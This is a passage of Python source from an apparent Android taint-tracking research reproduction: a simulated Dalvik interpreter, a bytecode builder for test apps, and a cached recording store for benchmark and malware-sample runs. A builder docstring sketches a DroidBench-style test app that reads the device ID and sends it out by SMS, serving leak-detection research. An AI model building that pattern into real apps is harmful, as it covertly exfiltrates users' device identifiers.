            literal = instr.literal
            bits = 8 if name.endswith("/lit8") else 16
            if literal & (1 << (bits - 1)):
                literal -= 1 << bits
            return self.get_vreg(instr.b, frame), literal & MASK_32
        return getter(instr.b, frame), getter(instr.c, frame)

    def _do_binop_int(self, frame, instr, base_depth) -> None:
        raw_a, raw_b = self._binop_operands(frame, instr, wide=False)
        base = self.translator._base_name(instr.op.name)
        result: Optional[int] = None
        if instr.op.helper or base in ("shl-int", "shr-int", "ushr-int"):
            a, b = _signed32(raw_a), _signed32(raw_b)
            if base in ("div-int", "rem-int"):
                if b == 0:
                    self._throw_by_name(
                        frame, "java/lang/ArithmeticException", base_depth
                    )
                    return
                quotient = int(a / b)  # Java truncates toward zero
                result = (quotient if base == "div-int" else a - quotient * b) & MASK_32
            elif base == "shl-int":
                result = (raw_a << (raw_b & 31)) & MASK_32
            elif base == "shr-int":
                result = (a >> (raw_b & 31)) & MASK_32
            else:  # ushr-int
                result = (raw_a & MASK_32) >> (raw_b & 31)
        name = instr.op.name
        if name.endswith("/2addr"):
            self.emit(self.translator.binop_2addr_int(instr, result))
        elif name.endswith("/lit16") or name.endswith("/lit8") or name == "rsub-int":
            self.emit(self.translator.binop_lit(instr, result))
        else:
            self.emit(self.translator.binop_int(instr, result))
        self._advance(frame)

    def _do_binop_wide(self, frame, instr, base_depth) -> None:
        raw_a, raw_b = self._binop_operands(frame, instr, wide=True)
        base = self.translator._base_name(instr.op.name)
        result: Optional[Tuple[int, int]] = None
        a, b = _signed64(raw_a), _signed64(raw_b)
        if base in ("div-long", "rem-long"):
            if b == 0:
                self._throw_by_name(frame, "java/lang/ArithmeticException", base_depth)
                return
            quotient = int(a / b)
            value = quotient if base == "div-long" else a - quotient * b
            result = (value & MASK_32, (value >> 32) & MASK_32)
        elif base == "mul-long":
            value = (a * b) & MASK_64
            result = (value & MASK_32, (value >> 32) & MASK_32)
        elif base in ("shl-long", "shr-long", "ushr-long"):
            shift = raw_b & 63
            if base == "shl-long":
                value = (raw_a << shift) & MASK_64
            elif base == "shr-long":
                value = (a >> shift) & MASK_64
            else:
                value = (raw_a & MASK_64) >> shift
            result = (value & MASK_32, (value >> 32) & MASK_32)
        self.emit(self.translator.binop_wide(instr, result))
        self._advance(frame)

    _FLOAT_OPS = {
        "add": lambda a, b: a + b,
        "sub": lambda a, b: a - b,
        "mul": lambda a, b: a * b,
        "div": lambda a, b: a / b if b else float("nan") * (1 if a == a else 1),
        "rem": lambda a, b: _java_fmod(a, b),
    }

    def _do_binop_float(self, frame, instr, base_depth) -> None:
        wide = "double" in instr.op.name
        raw_a, raw_b = self._binop_operands(frame, instr, wide=wide)
        to_value = bits_to_double if wide else bits_to_float
        from_value = double_to_bits if wide else float_to_bits
        op = self.translator._base_name(instr.op.name).split("-")[0]
        try:
            value = self._FLOAT_OPS[op](to_value(raw_a), to_value(raw_b))
        except ZeroDivisionError:
            value = float("inf")
        bits = from_value(value)
        result = (bits & MASK_32, (bits >> 32) & MASK_32)
        self.emit(self.translator.binop_float(instr, result, wide=wide))
        self._advance(frame)

    # .. calls, returns, exceptions ..........................................................

    def _do_invoke(self, frame, instr, base_depth) -> None:
        if instr.symbol is None:
            raise VMError("invoke needs a method symbol")
        name = instr.symbol
        if self._tel is not None:
            self._m_invokes.inc()
        self.emit(self.translator.invoke_prologue(instr))
        argument_registers = list(instr.args)
        if name in self.intrinsics:
            self._invoke_intrinsic(frame, instr, name, argument_registers)
            return
        callee = self.methods.get(name)
        if callee is None:
            raise VMError(f"method {name!r} is not registered")
        if len(argument_registers) != callee.ins:
            raise VMError(
                f"{name} expects {callee.ins} argument words, "
                f"got {len(argument_registers)}"
            )
        new_frame = self._push_activation(callee)
        # Save caller state into the callee frame's save area, then copy
        # arguments into the callee's last `ins` vregs — all real stores.
        self.emit(self.translator.frame_push(new_frame.frame_base))
        args_base = new_frame.frame_base + 4 * (callee.registers - callee.ins)
        self.emit([asm.add("r10", "r10", args_base - new_frame.frame_base)])
        self.emit(self.translator.invoke_arg_copies(argument_registers))
        self.emit(
            [
                asm.sub("rFP", "r10", args_base - new_frame.frame_base),
                asm.mov("rPC", asm.reg("r3")),  # r3 = code ptr from prologue
            ]
        )
        # The caller's pc stays AT the invoke while the callee runs, so an
        # exception unwinding through this frame matches try ranges that
        # cover the call site; the return path advances it.
        self.emit(self.translator.refetch())

    def _invoke_intrinsic(
        self, frame, instr, name: str, argument_registers: List[int]
    ) -> None:
        arg_values = [self.get_vreg(r, frame) for r in argument_registers]
        # AAPCS-style outgoing-argument area just above the stack pointer,
        # reused by every native call (real overwrite/untaint dynamics).
        args_area = self._frame_sp
        if args_area + 4 * max(len(argument_registers), 1) > self._stack_limit:
            raise VMError("thread stack exhausted")
        self.space.memory.write_u32(self.self_base + SELF_ARGS, args_area)
        self.emit([asm.patch("r10", args_area, mnemonic="ldr")])
        self.emit(self.translator.invoke_arg_copies(argument_registers))
        handler = self.intrinsics[name]
        handler(self, arg_values, args_area)
        frame.pc += 1
        self.cpu.registers["rPC"] = (
            frame.method.instruction_offsets[frame.pc]
            if frame.pc < len(frame.method.code)
            else frame.method.instruction_offsets[-1]
        )
        self.emit(self.translator.refetch())

    def _do_return(self, frame, instr, base_depth) -> None:
        category = instr.op.category
        if category is Category.RETURN_VOID:
            self.emit(self.translator.return_void(instr))
        else:
            self.emit(
                self.translator.return_value(
                    instr, wide=category is Category.RETURN_WIDE
                )
            )
        self._pop_activation()
        if len(self._frames) > base_depth:
            self.emit(self.translator.frame_pop())
            caller = self._frames[-1]
            caller.pc += 1  # resume after the invoke
            if caller.pc < len(caller.method.code):
                self.cpu.registers["rPC"] = caller.method.instruction_offsets[
                    caller.pc
                ]
            self.emit(self.translator.refetch())

    def _do_throw(self, frame, instr, base_depth) -> None:
        self.emit(self.translator.throw(instr))
        reference = self.get_vreg(instr.a, frame)
        if not reference:
            self._throw_by_name(frame, "java/lang/NullPointerException", base_depth)
            return
        self._dispatch_exception(self.heap.deref(reference), base_depth)

    def _throw_by_name(self, frame, class_name: str, base_depth: int) -> None:
        """Raise a runtime VM exception (NPE, bounds, arithmetic...)."""
        if class_name not in self.heap.classes:
            self.heap.define_class(class_name, superclass="java/lang/RuntimeException")
        exception = self.heap.new_instance(class_name)
        self.space.memory.write_u32(
            self.self_base + SELF_EXCEPTION, exception.address
        )
        self._dispatch_exception(exception, base_depth)

    def _dispatch_exception(self, exception: HeapValue, base_depth: int) -> None:
        while len(self._frames) > base_depth:
            frame = self._frames[-1]
            handler = self._find_handler(frame, exception)
            if handler is not None:
                self._branch_to(frame, handler.handler_label)
                return
            self._pop_activation()
            if len(self._frames) > base_depth:
                self.emit(self.translator.frame_pop())
        raise UncaughtVMException(exception)

    def _find_handler(self, frame: Activation, exception: HeapValue):
        for handler in frame.method.handlers:
            start = frame.method.label_index(handler.start_label)
            end = frame.method.label_index(handler.end_label)
            if not start <= frame.pc < end:
                continue
            catch_class = self.heap.class_of(handler.catch_class)
            throwable = self.heap.class_of("java/lang/Throwable")
            if exception.vm_class.is_subclass_of(catch_class) or (
                handler.catch_class == "java/lang/Throwable"
                and exception.vm_class.is_subclass_of(throwable)
            ):
                return handler
            # Untyped catch-all: accept anything.
            if handler.catch_class == "*":
                return handler
        return None

    _DISPATCH = {
        Category.NOP: _do_nop,
        Category.MOVE: _do_move,
        Category.MOVE_WIDE: _do_move_wide,
        Category.MOVE_RESULT: _do_move_result,
        Category.MOVE_RESULT_WIDE: _do_move_result,
        Category.MOVE_EXCEPTION: _do_move_exception,
        Category.RETURN_VOID: _do_return,
        Category.RETURN: _do_return,
        Category.RETURN_WIDE: _do_return,
        Category.CONST: _do_const,
        Category.CONST_WIDE: _do_const_wide,
        Category.CONST_STRING: _do_const_string,
        Category.CONST_CLASS: _do_const_class,
        Category.MONITOR: _do_monitor,
        Category.CHECK_CAST: _do_check_cast,
        Category.INSTANCE_OF: _do_instance_of,
        Category.ARRAY_LENGTH: _do_array_length,
        Category.NEW_INSTANCE: _do_new_instance,
        Category.NEW_ARRAY: _do_new_array,
        Category.THROW: _do_throw,
        Category.GOTO: _do_goto,
        Category.SWITCH: _do_switch,
        Category.CMP: _do_cmp,
        Category.IF_TEST: _do_if_test,
        Category.IF_TESTZ: _do_if_testz,
        Category.AGET: _do_aget,
        Category.AGET_WIDE: _do_aget,
        Category.APUT: _do_aput,
        Category.APUT_WIDE: _do_aput,
        Category.APUT_OBJECT: _do_aput,
        Category.IGET: _do_iget,
        Category.IGET_WIDE: _do_iget,
        Category.IPUT: _do_iput,
        Category.IPUT_WIDE: _do_iput,
        Category.SGET: _do_sget,
        Category.SGET_WIDE: _do_sget,
        Category.SPUT: _do_sput,
        Category.SPUT_WIDE: _do_sput,
        Category.INVOKE: _do_invoke,
        Category.UNARY_INT: _do_unary_int,
        Category.UNARY_WIDE: _do_unary_wide,
        Category.UNARY_FLOAT: _do_unary_float,
        Category.CONVERT: _do_convert,
        Category.BINOP_INT: _do_binop_int,
        Category.BINOP_WIDE: _do_binop_wide,
        Category.BINOP_FLOAT: _do_binop_float,
        Category.BINOP_2ADDR_INT: _do_binop_int,
        Category.BINOP_2ADDR_WIDE: _do_binop_wide,
        Category.BINOP_2ADDR_FLOAT: _do_binop_float,
        Category.BINOP_LIT: _do_binop_int,
    }


def _java_fmod(a: float, b: float) -> float:
    if b == 0:
        return float("nan")
    import math

    return math.fmod(a, b)


def _convert_value(value, target_kind: str) -> int:
    """Java primitive conversion semantics, returned as raw bits."""
    if target_kind == "int":
        clamped = max(min(int(value), 2**31 - 1), -(2**31)) if value == value else 0
        return clamped & MASK_32
    if target_kind == "long":
        clamped = max(min(int(value), 2**63 - 1), -(2**63)) if value == value else 0
        return clamped & MASK_64
    if target_kind == "float":
        return float_to_bits(float(value))
    if target_kind == "double":
        return double_to_bits(float(value))
    raise VMError(f"unknown conversion target {target_kind!r}")


def _element_width(class_name: str) -> int:
    """Array element width from a descriptor-like class name."""
    widths = {
        "[B": 1,
        "[Z": 1,
        "[C": 2,
        "[S": 2,
        "[I": 4,
        "[F": 4,
        "[J": 8,
        "[D": 8,
    }
    return widths.get(class_name, 4)  # object arrays hold 4-byte references

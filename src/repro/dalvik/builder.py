"""Fluent builder for authoring bytecode methods (the app-writing surface).

DroidBench-style apps are written against this builder, which reads close
to smali::

    b = MethodBuilder("LeakApp.main", registers=8, ins=0)
    b.const_string(0, "type=sms")
    b.invoke("TelephonyManager.getDeviceId")
    b.move_result_object(1)
    b.invoke("String.concat", 0, 1)
    b.move_result_object(2)
    b.invoke("SmsManager.sendTextMessage", 3, 4, 2)
    b.return_void()
    method = b.build()
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Tuple, Union

from repro.dalvik.bytecode import Instr, opcode
from repro.dalvik.vm import Method, TryHandler


class MethodBuilder:
    """Accumulates instructions and labels into a :class:`Method`."""

    def __init__(self, name: str, registers: int, ins: int = 0) -> None:
        self.name = name
        self.registers = registers
        self.ins = ins
        self._code: List[Union[Instr, str]] = []
        self._handlers: List[TryHandler] = []

    # -- generic --------------------------------------------------------------

    def raw(self, name: str, **fields) -> "MethodBuilder":
        """Append any opcode by name with explicit operand fields."""
        self._code.append(Instr(opcode(name), **fields))
        return self

    def label(self, name: str) -> "MethodBuilder":
        self._code.append(name)
        return self

    def catch(
        self,
        start: str,
        end: str,
        handler: str,
        catch_class: str = "java/lang/Throwable",
    ) -> "MethodBuilder":
        self._handlers.append(TryHandler(start, end, handler, catch_class))
        return self

    def build(self) -> Method:
        return Method(self.name, self.registers, self.ins, self._code, self._handlers)

    # -- moves ------------------------------------------------------------------

    def move(self, dst: int, src: int) -> "MethodBuilder":
        return self.raw("move", a=dst, b=src)

    def move_from16(self, dst: int, src: int) -> "MethodBuilder":
        return self.raw("move/from16", a=dst, b=src)

    def move_object(self, dst: int, src: int) -> "MethodBuilder":
        return self.raw("move-object", a=dst, b=src)

    def move_wide(self, dst: int, src: int) -> "MethodBuilder":
        return self.raw("move-wide", a=dst, b=src)

    def move_result(self, dst: int) -> "MethodBuilder":
        return self.raw("move-result", a=dst)

    def move_result_object(self, dst: int) -> "MethodBuilder":
        return self.raw("move-result-object", a=dst)

    def move_result_wide(self, dst: int) -> "MethodBuilder":
        return self.raw("move-result-wide", a=dst)

    def move_exception(self, dst: int) -> "MethodBuilder":
        return self.raw("move-exception", a=dst)

    # -- constants -----------------------------------------------------------------

    def const(self, dst: int, value: int) -> "MethodBuilder":
        """Pick the narrowest const encoding for ``value``."""
        if -8 <= value <= 7:
            return self.raw("const/4", a=dst, literal=value)
        if -(2**15) <= value < 2**15:
            return self.raw("const/16", a=dst, literal=value)
        return self.raw("const", a=dst, literal=value)

    def const_wide(self, dst: int, value: int) -> "MethodBuilder":
        if -(2**15) <= value < 2**15:
            return self.raw("const-wide/16", a=dst, literal=value)
        return self.raw("const-wide", a=dst, literal=value)

    def const_string(self, dst: int, text: str) -> "MethodBuilder":
        return self.raw("const-string", a=dst, symbol=text)

    def const_class(self, dst: int, class_name: str) -> "MethodBuilder":
        return self.raw("const-class", a=dst, symbol=class_name)

    # -- objects ----------------------------------------------------------------------

    def new_instance(self, dst: int, class_name: str) -> "MethodBuilder":
        return self.raw("new-instance", a=dst, symbol=class_name)

    def new_array(self, dst: int, size_reg: int, class_name: str = "[I") -> "MethodBuilder":
        return self.raw("new-array", a=dst, b=size_reg, symbol=class_name)

    def array_length(self, dst: int, array_reg: int) -> "MethodBuilder":
        return self.raw("array-length", a=dst, b=array_reg)

    def check_cast(self, reg: int, class_name: str) -> "MethodBuilder":
        return self.raw("check-cast", a=reg, symbol=class_name)

    def instance_of(self, dst: int, src: int, class_name: str) -> "MethodBuilder":
        return self.raw("instance-of", a=dst, b=src, symbol=class_name)

    def iget(self, dst: int, obj: int, field: str, wide: bool = False) -> "MethodBuilder":
        return self.raw("iget-wide" if wide else "iget", a=dst, b=obj, symbol=field)

    def iget_object(self, dst: int, obj: int, field: str) -> "MethodBuilder":
        return self.raw("iget-object", a=dst, b=obj, symbol=field)

    def iput(self, src: int, obj: int, field: str, wide: bool = False) -> "MethodBuilder":
        return self.raw("iput-wide" if wide else "iput", a=src, b=obj, symbol=field)

    def iput_object(self, src: int, obj: int, field: str) -> "MethodBuilder":
        return self.raw("iput-object", a=src, b=obj, symbol=field)

    def sget(self, dst: int, field: str) -> "MethodBuilder":
        return self.raw("sget", a=dst, symbol=field)

    def sget_object(self, dst: int, field: str) -> "MethodBuilder":
        return self.raw("sget-object", a=dst, symbol=field)

    def sput(self, src: int, field: str) -> "MethodBuilder":
        return self.raw("sput", a=src, symbol=field)

    def sput_object(self, src: int, field: str) -> "MethodBuilder":
        return self.raw("sput-object", a=src, symbol=field)

    # -- arrays ---------------------------------------------------------------------------

    def aget(self, dst: int, array: int, index: int, kind: str = "") -> "MethodBuilder":
        return self.raw(f"aget{kind}", a=dst, b=array, c=index)

    def aput(self, src: int, array: int, index: int, kind: str = "") -> "MethodBuilder":
        return self.raw(f"aput{kind}", a=src, b=array, c=index)

    def aget_char(self, dst: int, array: int, index: int) -> "MethodBuilder":
        return self.aget(dst, array, index, kind="-char")

    def aput_char(self, src: int, array: int, index: int) -> "MethodBuilder":
        return self.aput(src, array, index, kind="-char")

    def aget_object(self, dst: int, array: int, index: int) -> "MethodBuilder":
        return self.aget(dst, array, index, kind="-object")

    def aput_object(self, src: int, array: int, index: int) -> "MethodBuilder":
        return self.aput(src, array, index, kind="-object")

    # -- control flow ---------------------------------------------------------------------

    def goto(self, label: str) -> "MethodBuilder":
        return self.raw("goto", symbol=label)

    def if_eq(self, a: int, b: int, label: str) -> "MethodBuilder":
        return self.raw("if-eq", a=a, b=b, symbol=label)

    def if_ne(self, a: int, b: int, label: str) -> "MethodBuilder":
        return self.raw("if-ne", a=a, b=b, symbol=label)

    def if_lt(self, a: int, b: int, label: str) -> "MethodBuilder":
        return self.raw("if-lt", a=a, b=b, symbol=label)

    def if_ge(self, a: int, b: int, label: str) -> "MethodBuilder":
        return self.raw("if-ge", a=a, b=b, symbol=label)

    def if_gt(self, a: int, b: int, label: str) -> "MethodBuilder":
        return self.raw("if-gt", a=a, b=b, symbol=label)

    def if_le(self, a: int, b: int, label: str) -> "MethodBuilder":
        return self.raw("if-le", a=a, b=b, symbol=label)

    def if_eqz(self, a: int, label: str) -> "MethodBuilder":
        return self.raw("if-eqz", a=a, symbol=label)

    def if_nez(self, a: int, label: str) -> "MethodBuilder":
        return self.raw("if-nez", a=a, symbol=label)

    def if_ltz(self, a: int, label: str) -> "MethodBuilder":
        return self.raw("if-ltz", a=a, symbol=label)

    def if_gez(self, a: int, label: str) -> "MethodBuilder":
        return self.raw("if-gez", a=a, symbol=label)

    def packed_switch(
        self, reg: int, first_key: int, targets: Sequence[str]
    ) -> "MethodBuilder":
        return self.raw(
            "packed-switch", a=reg, keys=(first_key,), targets=tuple(targets)
        )

    def sparse_switch(
        self, reg: int, cases: Sequence[Tuple[int, str]]
    ) -> "MethodBuilder":
        keys = tuple(key for key, _ in cases)
        targets = tuple(target for _, target in cases)
        return self.raw("sparse-switch", a=reg, keys=keys, targets=targets)

    # -- arithmetic --------------------------------------------------------------------------

    def binop(self, name: str, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.raw(name, a=dst, b=a, c=b)

    def binop_2addr(self, name: str, dst: int, src: int) -> "MethodBuilder":
        return self.raw(f"{name}/2addr", a=dst, b=src)

    def add_int(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("add-int", dst, a, b)

    def sub_int(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("sub-int", dst, a, b)

    def mul_int(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("mul-int", dst, a, b)

    def div_int(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("div-int", dst, a, b)

    def rem_int(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("rem-int", dst, a, b)

    def xor_int(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("xor-int", dst, a, b)

    def add_int_lit8(self, dst: int, src: int, literal: int) -> "MethodBuilder":
        return self.raw("add-int/lit8", a=dst, b=src, literal=literal)

    def mul_int_lit8(self, dst: int, src: int, literal: int) -> "MethodBuilder":
        return self.raw("mul-int/lit8", a=dst, b=src, literal=literal)

    def int_to_char(self, dst: int, src: int) -> "MethodBuilder":
        return self.raw("int-to-char", a=dst, b=src)

    def add_double(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("add-double", dst, a, b)

    def mul_double(self, dst: int, a: int, b: int) -> "MethodBuilder":
        return self.binop("mul-double", dst, a, b)

    # -- calls and returns ----------------------------------------------------------------------

    def invoke(self, method: str, *args: int, kind: str = "virtual") -> "MethodBuilder":
        return self.raw(f"invoke-{kind}", symbol=method, args=tuple(args))

    def invoke_static(self, method: str, *args: int) -> "MethodBuilder":
        return self.invoke(method, *args, kind="static")

    def invoke_direct(self, method: str, *args: int) -> "MethodBuilder":
        return self.invoke(method, *args, kind="direct")

    def return_void(self) -> "MethodBuilder":
        return self.raw("return-void")

    def return_value(self, reg: int) -> "MethodBuilder":
        return self.raw("return", a=reg)

    def return_object(self, reg: int) -> "MethodBuilder":
        return self.raw("return-object", a=reg)

    def return_wide(self, reg: int) -> "MethodBuilder":
        return self.raw("return-wide", a=reg)

    def throw(self, reg: int) -> "MethodBuilder":
        return self.raw("throw", a=reg)

    def nop(self) -> "MethodBuilder":
        return self.raw("nop")

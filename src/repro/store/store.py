"""`ArtifactStore` — a content-addressed, crash-safe recording store.

Recording a suite (spinning up 57 ``AndroidDevice`` executions) is the
dominant cost of every sweep/faults/bench invocation, yet the result is
a pure function of a handful of inputs.  The store makes that cost
*once-ever* instead of once-per-process: entries are keyed by a SHA-256
digest over the canonical recording inputs (suite kind, app list, work
parameter, trace format version), so any process that can name the same
inputs gets the same bytes back.

Crash-safety invariants (see DESIGN.md):

* **Atomic visibility** — payloads land via same-directory temp file +
  ``os.replace``; a reader never observes a half-written entry.  The
  meta sidecar is written *after* the payload, so meta presence marks a
  committed entry.
* **Deterministic bytes** — payload bytes are a pure function of the
  runs (sorted keys, zeroed gzip mtime), so concurrent writers racing on
  one key replace equal content with equal content; last-writer-wins is
  harmless and exactly one valid entry remains.
* **Checked reads** — every read re-hashes the payload against the meta
  checksum.  A mismatch (bit flip, truncation, torn write of a foreign
  tool) quarantines the entry and reports a miss — callers fall back to
  re-recording, never crash on a bad cache.
"""

from __future__ import annotations

import hashlib
import json
import os
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple, Union

from repro.analysis.tracefile import FORMAT_VERSION, TraceFormatError
from repro.store.suitefile import dump_suite_bytes, load_suite_bytes

#: Bumping this invalidates every existing entry (digests change).
STORE_VERSION = 1

ENTRY_FORMAT = "pift-store-entry"

_PAYLOAD_SUFFIX = ".suite.gz"
_META_SUFFIX = ".meta.json"


class StoreError(RuntimeError):
    """The store is unusable (not a directory, unwritable, ...)."""


def _canonical(value):
    """JSON-stable form of key inputs (tuples become lists)."""
    if isinstance(value, (list, tuple)):
        return [_canonical(item) for item in value]
    if isinstance(value, dict):
        return {str(k): _canonical(v) for k, v in sorted(value.items())}
    return value


@dataclass(frozen=True)
class StoreKey:
    """The canonical identity of one recording.

    ``inputs`` is a tuple of ``(name, value)`` pairs; the digest is the
    SHA-256 of the canonical JSON of ``(store version, kind, inputs)``,
    so *any* input change — a new app in the suite, a different work
    parameter, a trace-format bump — addresses a fresh entry instead of
    silently serving stale bytes.
    """

    kind: str
    inputs: Tuple[Tuple[str, object], ...]

    @property
    def digest(self) -> str:
        body = json.dumps(
            {
                "store_version": STORE_VERSION,
                "kind": self.kind,
                "inputs": {
                    name: _canonical(value) for name, value in self.inputs
                },
            },
            sort_keys=True,
            separators=(",", ":"),
        )
        return hashlib.sha256(body.encode("utf-8")).hexdigest()

    def as_dict(self) -> dict:
        return {
            "kind": self.kind,
            "inputs": {name: _canonical(value) for name, value in self.inputs},
        }


def droidbench_key() -> StoreKey:
    """Key of the canonical 57-app DroidBench suite recording."""
    from repro.apps.droidbench.suite import all_apps

    return StoreKey(
        kind="droidbench",
        inputs=(
            ("apps", tuple(app.name for app in all_apps())),
            ("trace_version", FORMAT_VERSION),
        ),
    )


def malware_key(work: int) -> StoreKey:
    """Key of the canonical seven-sample malware recording at ``work``."""
    from repro.apps.malware import SAMPLES

    return StoreKey(
        kind="malware",
        inputs=(
            ("samples", tuple(sample.name for sample in SAMPLES)),
            ("work", int(work)),
            ("trace_version", FORMAT_VERSION),
        ),
    )


def lgroot_key(work: int) -> StoreKey:
    """Key of the LGRoot detection-latency trace recording at ``work``."""
    return StoreKey(
        kind="lgroot",
        inputs=(("work", int(work)), ("trace_version", FORMAT_VERSION)),
    )


def _sha256(payload: bytes) -> str:
    return hashlib.sha256(payload).hexdigest()


class ArtifactStore:
    """On-disk, content-addressed store of recorded suites.

    Args:
        root: store directory (created on first write unless read-only).
        read_only: pool workers open the store read-only — reads never
            mutate the tree (no quarantine moves, no counter files), so
            any number of concurrent readers is safe by construction.
        telemetry: optional hub; mirrors the instance counters onto the
            ``store.*`` metric family.
    """

    def __init__(
        self,
        root: Union[str, Path],
        read_only: bool = False,
        telemetry=None,
    ) -> None:
        self.root = Path(root)
        self.read_only = read_only
        #: In-process accounting (also the record-once regression hooks).
        self.hits = 0
        self.misses = 0
        self.writes = 0
        self.corruptions = 0
        self._telemetry = None
        if telemetry is not None and telemetry.enabled:
            self._telemetry = telemetry
            m = telemetry.metrics
            self._hit_counter = m.counter("store.hits", "store entry hits")
            self._miss_counter = m.counter("store.misses", "store entry misses")
            self._write_counter = m.counter("store.writes", "store entries written")
            self._corruption_counter = m.counter(
                "store.corruptions", "corrupt entries quarantined"
            )
        if not read_only:
            self._ensure_layout()
        elif self.root.exists() and not self.root.is_dir():
            raise StoreError(f"store root {self.root} is not a directory")

    # -- layout -----------------------------------------------------------

    @property
    def objects_dir(self) -> Path:
        return self.root / "objects"

    @property
    def quarantine_dir(self) -> Path:
        return self.root / "quarantine"

    @property
    def journals_dir(self) -> Path:
        return self.root / "journals"

    def _ensure_layout(self) -> None:
        if self.root.exists() and not self.root.is_dir():
            raise StoreError(f"store root {self.root} is not a directory")
        for directory in (self.objects_dir, self.quarantine_dir, self.journals_dir):
            directory.mkdir(parents=True, exist_ok=True)

    def _entry_paths(self, digest: str) -> Tuple[Path, Path]:
        shard = self.objects_dir / digest[:2]
        return (
            shard / f"{digest}{_PAYLOAD_SUFFIX}",
            shard / f"{digest}{_META_SUFFIX}",
        )

    def journal_path(self, run_id: str) -> Path:
        if not run_id or "/" in run_id or run_id.startswith("."):
            raise StoreError(f"bad run id {run_id!r}")
        return self.journals_dir / f"{run_id}.jsonl"

    def telemetry_path(self, run_id: str) -> Path:
        """The run's persisted flight-recorder stream (JSONL), next to its
        journal — what ``repro report`` joins against post hoc."""
        if not run_id or "/" in run_id or run_id.startswith("."):
            raise StoreError(f"bad run id {run_id!r}")
        return self.journals_dir / f"{run_id}.telemetry.jsonl"

    def journal_ids(self) -> List[str]:
        if not self.journals_dir.is_dir():
            return []
        return sorted(
            p.stem
            for p in self.journals_dir.glob("*.jsonl")
            # Telemetry streams live alongside journals but are not runs.
            if not p.stem.endswith(".telemetry")
        )

    # -- counters ---------------------------------------------------------

    def _note_hit(self) -> None:
        self.hits += 1
        if self._telemetry is not None:
            self._hit_counter.inc()

    def _note_miss(self) -> None:
        self.misses += 1
        if self._telemetry is not None:
            self._miss_counter.inc()

    def _note_write(self) -> None:
        self.writes += 1
        if self._telemetry is not None:
            self._write_counter.inc()

    def _note_corruption(self) -> None:
        self.corruptions += 1
        if self._telemetry is not None:
            self._corruption_counter.inc()

    # -- write path -------------------------------------------------------

    def _atomic_write(self, path: Path, payload: bytes) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        fd, tmp_name = tempfile.mkstemp(
            dir=str(path.parent), prefix=path.name + ".tmp."
        )
        try:
            with os.fdopen(fd, "wb") as handle:
                handle.write(payload)
                handle.flush()
                os.fsync(handle.fileno())
            os.replace(tmp_name, path)
        except BaseException:
            try:
                os.unlink(tmp_name)
            except OSError:
                pass
            raise

    def put_runs(self, key: StoreKey, runs: Sequence) -> str:
        """Persist a recorded suite under ``key``; returns its digest.

        Payload first, meta second: a crash between the two leaves a
        payload without meta, which readers treat as absent and a later
        ``put`` simply overwrites.
        """
        if self.read_only:
            raise StoreError("store opened read-only")
        self._ensure_layout()
        digest = key.digest
        payload = dump_suite_bytes(runs)
        payload_path, meta_path = self._entry_paths(digest)
        self._atomic_write(payload_path, payload)
        meta = {
            "format": ENTRY_FORMAT,
            "store_version": STORE_VERSION,
            "digest": digest,
            "key": key.as_dict(),
            "sha256": _sha256(payload),
            "payload_bytes": len(payload),
            "runs": len(runs),
            "created": time.time(),
        }
        self._atomic_write(
            meta_path,
            json.dumps(meta, sort_keys=True, separators=(",", ":")).encode(
                "utf-8"
            ),
        )
        self._note_write()
        return digest

    # -- read path --------------------------------------------------------

    def _read_meta(self, meta_path: Path) -> Optional[dict]:
        try:
            meta = json.loads(meta_path.read_text(encoding="utf-8"))
        except (OSError, json.JSONDecodeError):
            return None
        if not isinstance(meta, dict) or meta.get("format") != ENTRY_FORMAT:
            return None
        return meta

    def _quarantine(self, digest: str) -> None:
        """Move a bad entry aside (best-effort; read-only stores skip it)."""
        if self.read_only:
            return
        self.quarantine_dir.mkdir(parents=True, exist_ok=True)
        for path in self._entry_paths(digest):
            if path.exists():
                try:
                    os.replace(path, self.quarantine_dir / path.name)
                except OSError:
                    pass

    def get_by_digest(self, digest: str):
        """The stored runs for ``digest``, or None on miss/corruption.

        Corrupt entries (checksum mismatch, undecodable payload) are
        quarantined and reported as a miss — the caller's fallback is to
        re-record, which also re-``put``s a fresh entry.
        """
        payload_path, meta_path = self._entry_paths(digest)
        meta = self._read_meta(meta_path)
        if meta is None:
            self._note_miss()
            return None
        try:
            payload = payload_path.read_bytes()
        except OSError:
            self._note_miss()
            return None
        if _sha256(payload) != meta.get("sha256"):
            self._note_corruption()
            self._quarantine(digest)
            self._note_miss()
            return None
        try:
            runs = load_suite_bytes(payload)
        except TraceFormatError:
            self._note_corruption()
            self._quarantine(digest)
            self._note_miss()
            return None
        self._note_hit()
        return runs

    def get_runs(self, key: StoreKey):
        return self.get_by_digest(key.digest)

    def stream_runs(self, key: StoreKey):
        """Iterate the stored runs one at a time, or None on miss.

        The streaming read path for long-lived consumers (the `repro
        serve` fleet client): the checksum is verified by hashing the
        payload file in chunks up front, then runs decode lazily via
        :func:`~repro.store.suitefile.iter_suite_runs` — one run of
        memory instead of the whole suite.  A structural problem found
        mid-stream raises
        :class:`~repro.analysis.tracefile.TraceFormatError` (the entry
        is *not* quarantined then: some runs may already be in flight —
        callers re-record, and the next checked read quarantines).
        """
        from repro.store.suitefile import iter_suite_runs

        payload_path, meta_path = self._entry_paths(key.digest)
        meta = self._read_meta(meta_path)
        if meta is None:
            self._note_miss()
            return None
        hasher = hashlib.sha256()
        try:
            with open(payload_path, "rb") as fileobj:
                for chunk in iter(lambda: fileobj.read(1 << 20), b""):
                    hasher.update(chunk)
        except OSError:
            self._note_miss()
            return None
        if hasher.hexdigest() != meta.get("sha256"):
            self._note_corruption()
            self._quarantine(key.digest)
            self._note_miss()
            return None
        self._note_hit()
        return iter_suite_runs(payload_path)

    def has(self, key: StoreKey) -> bool:
        """True when a committed entry exists (no checksum pass)."""
        payload_path, meta_path = self._entry_paths(key.digest)
        return payload_path.exists() and meta_path.exists()

    # -- maintenance ------------------------------------------------------

    def _entries(self) -> List[dict]:
        entries = []
        if not self.objects_dir.is_dir():
